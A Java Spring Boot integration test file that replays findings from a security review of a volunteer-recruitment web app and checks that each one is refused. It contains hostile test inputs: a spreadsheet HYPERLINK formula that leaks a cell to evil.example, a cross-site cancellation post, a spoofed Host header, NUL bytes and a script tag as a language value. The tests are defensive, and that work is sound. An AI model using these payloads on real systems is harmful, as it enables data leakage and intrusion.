package nl.expertpool.lifecycle;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.UUID;
import java.util.regex.Pattern;
import nl.expertpool.project.ProjectStatus;
import nl.expertpool.runtime.Listeners;
import nl.expertpool.runtime.Listeners.Listener;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Issue 17: the requests an outside security test of the running app sent, sent again through a
 * real port, each expecting the refusal. The engine's gateway and the database have tests of their
 * own (EngineGatewayTest, EmbeddedDatabaseTest); this one checks them in the running app as well.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class SecurityRegressionIntegrationTest {

  @LocalServerPort int port;
  @Autowired LifecycleDriver driver;

  private final ObjectMapper json = new ObjectMapper();
  private final HttpClient http =
      HttpClient.newBuilder()
          .followRedirects(HttpClient.Redirect.NEVER)
          .connectTimeout(Duration.ofSeconds(10))
          .build();
  private WebClient web;

  @BeforeEach
  void client() {
    web = new WebClient(port);
  }

  // 1 and 2: what listens

  /**
   * The engine's gateway and PostgreSQL listen on the loopback address; only web servers (this
   * app's, and those of other apps the test JVM keeps running) listen beyond it: each answers an
   * HTTP request for its health.
   */
  @Test
  void nothingButTheWebPortListensBeyondTheLoopbackAddress() throws Exception {
    Assumptions.assumeTrue(Listeners.readable(), "needs Linux's /proc");
    List<Listener> listeners = Listeners.ofThisProcessTree();

    assertThat(listeners).as("the web port").anyMatch(l -> l.port() == port);
    assertThat(listeners)
        .as("engine gateway, PostgreSQL and the others")
        .filteredOn(l -> l.port() != port)
        .isNotEmpty();
    for (Listener beyond : listeners.stream().filter(l -> !l.loopback()).toList()) {
      var health =
          http.send(
              HttpRequest.newBuilder(
                      URI.create("http://localhost:" + beyond.port() + "/actuator/health"))
                  .timeout(Duration.ofSeconds(10))
                  .build(),
              BodyHandlers.ofString());
      assertThat(health.body()).as("what listens on " + beyond).contains("\"status\"");
    }
  }

  // 4: formulas in exports

  @Test
  void aCsvCellThatASpreadsheetWouldRunStartsWithAnApostrophe() throws Exception {
    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&C2,\"Click\")";
    UUID project = driver.create(1, null);
    driver.apply(project, formula);
    driver.advance(Duration.ofDays(14));
    driver.screen(project, "accept");
    driver.scheduleOneSession(project);
    driver.awaitActive(project, "LastSessionEndedTimer");
    driver.advance(Duration.ofDays(2));
    driver.recordAttendance(project, true);
    driver.awaitMilestone(project, nl.expertpool.milestone.MilestoneKey.TRAINING_COMPLETED);

    var csv =
        http.send(
            request("/api/projects/" + project + "/remuneration", "pm")
                .header("Accept", "text/csv")
                .build(),
            BodyHandlers.ofString());

    assertThat(csv.statusCode()).isEqualTo(200);
    assertThat(csv.body())
        .contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&C2,\"\"Click\"\")\"")
        .doesNotContain(",\"=HYPERLINK", ",=HYPERLINK");
  }

  // 5: the public application endpoint

  @Test
  void aNulCharacterInAnApplicationIs400NamingTheField() throws Exception {
    UUID project = driver.create(3, null);
    String code = driver.call.callOf(project).signUpCode();
    String body =
        """
        {"signUpCode": "%s", "name": "Olena\\u0000K.", "email": "olena@example.org",
         "languages": ["uk"], "motivation": "I know what newcomers need.",
         "consent": {"given": true, "textVersion": "2026-01", "method": "web-form"}}
        """
            .formatted(code);

    var answer = post("/api/projects/" + project + "/applications", null, body);

    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/problem+json");
    JsonNode errors = json.readTree(answer.body()).path("errors");
    assertThat(errors.findValuesAsText("field")).containsExactly("name");
    assertThat(errors.findValuesAsText("reason"))
        .containsExactly("must not contain a NUL character");
  }

  /**
   * 300 applications from one client, all with the same e-mail, were all taken (201) and each
   * mailed that address. Now the same contact makes one application and one message, and the
   * answers do not tell a repeat from a first.
   */
  @Test
  void oneContactMakesOneApplicationAndOneMessageHoweverOftenItApplies() throws Exception {
    UUID project = driver.create(3, null);
    String code = driver.call.callOf(project).signUpCode();
    var log = listen("nl.expertpool.notification.LoggingNotifier");
    var answers = new java.util.HashSet<String>();
    try {
      for (int i = 0; i < 30; i++) {
        var answer =
            post(
                "/api/projects/" + project + "/applications",
                null,
                application(code, "Olena K.", "Olena.K@Example.org"));
        assertThat(answer.statusCode()).isEqualTo(202);
        answers.add(answer.body());
      }
    } finally {
      ((Logger) LoggerFactory.getLogger("nl.expertpool.notification.LoggingNotifier"))
          .detachAppender(log);
    }
    assertThat(answers).containsExactly("{\"status\":\"confirmation-sent\"}");
    assertThat(log.list)
        .extracting(ILoggingEvent::getFormattedMessage)
        .filteredOn(line -> line.startsWith("Notification 'application-confirm'"))
        .hasSize(1);
    assertThat(driver.pool.people(project)).hasSize(1);
  }

  @Test
  void aCallTakesTenApplicationsForEachExpertItSeeks() throws Exception {
    UUID project = driver.create(1, null);
    String code = driver.call.callOf(project).signUpCode();
    for (int i = 0; i < 10; i++) {
      assertThat(
              post(
                      "/api/projects/" + project + "/applications",
                      null,
                      application(code, "Applicant " + i, "applicant" + i + "@example.org"))
                  .statusCode())
          .isEqualTo(202);
    }
    var eleventh =
        post(
            "/api/projects/" + project + "/applications",
            null,
            application(code, "Applicant 11", "applicant11@example.org"));

    assertThat(eleventh.statusCode()).isEqualTo(409);
    assertThat(eleventh.headers().firstValue("Content-Type")).hasValue("application/problem+json");
    assertThat(json.readTree(eleventh.body()).path("detail").asText())
        .contains("no more applications");
    assertThat(driver.pool.people(project)).hasSize(10);
  }

  /** Staff record a paper sign-up: it counts at once and mails nobody. */
  @Test
  void staffRecordAnApplicationOnTheApplicantsBehalfAndItCountsAtOnce() throws Exception {
    UUID project = driver.create(1, null);
    var log = listen("nl.expertpool.notification.LoggingNotifier");
    HttpResponse<String> recorded;
    try {
      recorded =
          post(
              "/api/projects/" + project + "/applications",
              "staff",
              """
              {"name": "Amina Y.", "phone": "+31 6 1111 2222", "languages": ["ti"],
               "motivation": "Signed up on paper at the reception location.",
               "consent": {"given": true, "textVersion": "2026-01", "method": "paper"}}
              """);
    } finally {
      ((Logger) LoggerFactory.getLogger("nl.expertpool.notification.LoggingNotifier"))
          .detachAppender(log);
    }

    assertThat(recorded.statusCode()).isEqualTo(201);
    assertThat(json.readTree(recorded.body()).path("status").asText()).isEqualTo("confirmed");
    assertThat(driver.call.belowTarget(project)).isFalse();
    assertThat(log.list)
        .extracting(ILoggingEvent::getFormattedMessage)
        .noneMatch(line -> line.contains("application-confirm"));
  }

  private static String application(String code, String name, String email) {
    return """
        {"signUpCode": "%s", "name": "%s", "email": "%s", "languages": ["uk"],
         "motivation": "I know what newcomers need.",
         "consent": {"given": true, "textVersion": "2026-01", "method": "web-form"}}
        """
        .formatted(code, name, email);
  }

  private static ListAppender<ILoggingEvent> listen(String logger) {
    var appender = new ListAppender<ILoggingEvent>();
    appender.start();
    ((Logger) LoggerFactory.getLogger(logger)).addAppender(appender);
    return appender;
  }

  /** A NUL character posted on a task page is a 400 page, and the task stays open. */
  @Test
  @SuppressWarnings("unchecked")
  void aNulCharacterOnATaskPageIsRefusedNotA500() throws Exception {
    UUID project = driver.create(1, null);
    driver.apply(project, "Olena Koval");
    driver.advance(Duration.ofDays(14));
    var task = driver.task(project, "screen-candidates");
    var candidate =
        ((List<java.util.Map<String, Object>>) task.variables().get("candidates")).getFirst();
    var browser = web.browser();
    browser.signIn("pm", "demo");
    var page = browser.get("/tasks/" + task.key());
    var token = Pattern.compile("name=\"_csrf\"[^>]*value=\"([^\"]+)\"").matcher(page.body());
    assertThat(token.find()).isTrue();
    // Written out: the NUL goes as %00, which a form encoder would not let through as typed.
    String form =
        "_csrf="
            + WebClient.encode(token.group(1))
            + "&candidates%5B0%5D.label="
            + WebClient.encode(String.valueOf(candidate.get("label")))
            + "&candidates%5B0%5D.applicationId="
            + candidate.get("applicationId")
            + "&candidates%5B0%5D.decision=accept&candidates%5B0%5D.note=a%00b";

    var answer = browser.post("/tasks/" + task.key(), form);

    assertThat(answer.statusCode()).isEqualTo(400);
    assertThat(driver.find(project, "screen-candidates")).isNotNull();
  }

  // 7: the API and the browser's remembered credentials

  @Test
  void aCancellationPostedAsAFormFromAnotherSiteIs415AndTheProjectRuns() throws Exception {
    UUID project = driver.create(3, null);
    for (String type :
        List.of("application/x-www-form-urlencoded", "text/plain", "multipart/form-data")) {
      var answer =
          http.send(
              request("/api/projects/" + project + "/cancellation", "pm")
                  .header("Content-Type", type)
                  .header("Origin", "http://evil.example")
                  .POST(BodyPublishers.ofString("confirm=yes"))
                  .build(),
              BodyHandlers.ofString());

      assertThat(answer.statusCode()).as(type).isEqualTo(415);
      assertThat(answer.headers().firstValue("Content-Type")).hasValue("application/problem+json");
    }
    assertThat(driver.projects.get(project).getStatus()).isEqualTo(ProjectStatus.ACTIVE);
  }

  @Test
  void aBrowserGetsNoBasicChallengeToRememberAndAProgramStillDoes() throws Exception {
    var browser =
        http.send(
            request("/api/projects", null).header("Accept", "text/html,*/*").build(),
            BodyHandlers.ofString());
    var script =
        http.send(
            request("/api/projects", null).header("X-Requested-With", "XMLHttpRequest").build(),
            BodyHandlers.ofString());
    var program = http.send(request("/api/projects", null).build(), BodyHandlers.ofString());

    assertThat(browser.statusCode()).isEqualTo(401);
    assertThat(browser.headers().firstValue("WWW-Authenticate")).isEmpty();
    assertThat(browser.headers().firstValue("Content-Type")).hasValue("application/problem+json");
    assertThat(script.statusCode()).isEqualTo(401);
    assertThat(script.headers().firstValue("WWW-Authenticate")).isEmpty();
    assertThat(program.statusCode()).isEqualTo(401);
    assertThat(program.headers().firstValue("WWW-Authenticate"))
        .hasValueSatisfying(challenge -> assertThat(challenge).startsWith("Basic"));
  }

  // 8: headers and smaller points

  @Test
  void pagesAndTheApiSendAStrictPolicyAndTheSessionCookieIsSameSiteLax() throws Exception {
    var login = http.send(request("/login", null).build(), BodyHandlers.ofString());
    var api = http.send(request("/api/projects", "pm").build(), BodyHandlers.ofString());

    for (var answer : List.of(login, api)) {
      assertThat(answer.headers().firstValue("Content-Security-Policy"))
          .hasValueSatisfying(
              policy ->
                  assertThat(policy)
                      .contains(
                          "default-src 'self'",
                          "object-src 'none'",
                          "frame-ancestors 'none'",
                          "base-uri 'none'")
                      .doesNotContain("unsafe"));
      assertThat(answer.headers().firstValue("Referrer-Policy")).hasValue("same-origin");
      assertThat(answer.headers().firstValue("Permissions-Policy"))
          .hasValueSatisfying(p -> assertThat(p).contains("camera=()", "geolocation=()"));
    }
    assertThat(login.headers().allValues("Set-Cookie"))
        .anySatisfy(
            cookie ->
                assertThat(cookie).startsWith("JSESSIONID=").contains("HttpOnly", "SameSite=Lax"));
    assertThat(login.body()).doesNotContainPattern(Pattern.compile("\\son[a-z]+=\"", 2));
  }

  @Test
  void theSignInRedirectNamesAPathNotTheHostTheRequestClaims() throws Exception {
    String answer = raw("GET /portal HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");

    assertThat(answer).startsWith("HTTP/1.1 302");
    assertThat(answer).containsPattern("(?im)^Location: /login\\r?$");
    assertThat(answer).doesNotContain("evil.example");
  }

  @Test
  void anInvalidLanguageIsIgnoredNotA500() throws Exception {
    for (String lang : List.of("<script>", "xx_YY_ZZ_1", "de")) {
      var answer =
          http.send(
              request("/login?lang=" + URLEncoder.encode(lang, StandardCharsets.UTF_8), null)
                  .build(),
              BodyHandlers.ofString());

      assertThat(answer.statusCode()).as(lang).isEqualTo(200);
      assertThat(answer.body()).as(lang).contains("lang=\"en\"").doesNotContain("<script>");
    }
  }

  @Test
  void clientsDoNotSeeTheProcessInstanceKeyAndStaffDo() throws Exception {
    UUID project = driver.createFor("Gemeente Almere");

    JsonNode client = getJson("/api/projects/" + project, "client");
    JsonNode staff = getJson("/api/projects/" + project, "staff");

    assertThat(client.has("processInstanceKey")).isFalse();
    assertThat(client.path("status").asText()).isEqualTo("ACTIVE");
    assertThat(staff.path("processInstanceKey").asLong()).isPositive();
  }

  @Test
  void aTaskPageInEnglishLooksUpNoMissingTranslationFile() throws Exception {
    var log = new ListAppender<ILoggingEvent>();
    log.start();
    var root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    root.addAppender(log);
    try {
      UUID project = driver.create(1, null);
      driver.apply(project, "Olena Koval");
      driver.advance(Duration.ofDays(14));
      long task = driver.task(project, "screen-candidates").key();
      var browser = web.browser();
      assertThat(browser.signIn("pm", "demo").headers().firstValue("Location")).hasValue("/");

      var page = browser.get("/tasks/" + task + "?lang=en");

      assertThat(page.statusCode()).isEqualTo(200);
      assertThat(page.body()).contains("Screen candidates");
      assertThat(log.list)
          .extracting(ILoggingEvent::getFormattedMessage)
          .noneMatch(line -> line.contains("ResourceBundle"));
    } finally {
      root.detachAppender(log);
    }
  }

  private JsonNode getJson(String path, String user) throws Exception {
    var answer = http.send(request(path, user).build(), BodyHandlers.ofString());
    assertThat(answer.statusCode()).as(path).isEqualTo(200);
    return json.readTree(answer.body());
  }

  private HttpResponse<String> post(String path, String user, String body) throws Exception {
    return web.postJson(path, user, "demo", body);
  }

  /** A request as a demo user (password {@code demo}), or as nobody. */
  private HttpRequest.Builder request(String path, String user) {
    return web.request(path, user, "demo");
  }

  /** A request as written, for headers the HTTP client will not send (Host). */
  private String raw(String request) throws IOException {
    try (var socket = new Socket("localhost", port)) {
      socket.setSoTimeout(30_000);
      OutputStream out = socket.getOutputStream();
      out.write(request.getBytes(StandardCharsets.ISO_8859_1));
      out.flush();
      InputStream in = socket.getInputStream();
      return new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
    }
  }
}
